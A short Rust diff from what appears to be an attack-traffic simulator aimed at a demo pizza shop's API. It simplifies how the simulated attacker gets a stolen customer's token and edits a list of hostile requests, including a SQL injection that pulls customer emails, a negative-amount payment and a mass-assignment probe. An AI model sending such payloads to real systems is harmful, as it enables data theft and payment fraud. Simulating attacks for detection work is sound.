@@ -3,12 +3,11 @@
 use http::Method;
 
 use super::Attacker;
-use crate::data::{STOLEN, customer};
+use crate::data::STOLEN;
 
 pub(crate) async fn run(mut attacker: Attacker) {
     let mut client = attacker.client(5, "python-httpx/0.28");
-    let subject = customer(STOLEN - 2).0;
-    client.token(&attacker.shop.idp.token(&subject));
+    client.token(&attacker.token(STOLEN - 2));
     loop {
         for (method, path, body) in [
             // Mass assignment (API3:2023).
@@ -42,7 +41,7 @@ pub(crate) async fn run(mut attacker: Attacker) {
             ),
             // As a form, which some frameworks bind just as well.
             (Method::POST, "/payments/", r#"{"order":1,"amount":-50,"method":"card"}"#),
-            (Method::GET, "/menu/pizzas?q=%27%20UNION%20SELECT%201,email,2,3%20FROM%20customers--", ""),
+            (Method::GET, "/menu/pizzas?q=%27%20UNION%20SELECT%201,email,2,3,4%20FROM%20customers--", ""),
         ] {
             if attacker.pause(150).await {
                 return;
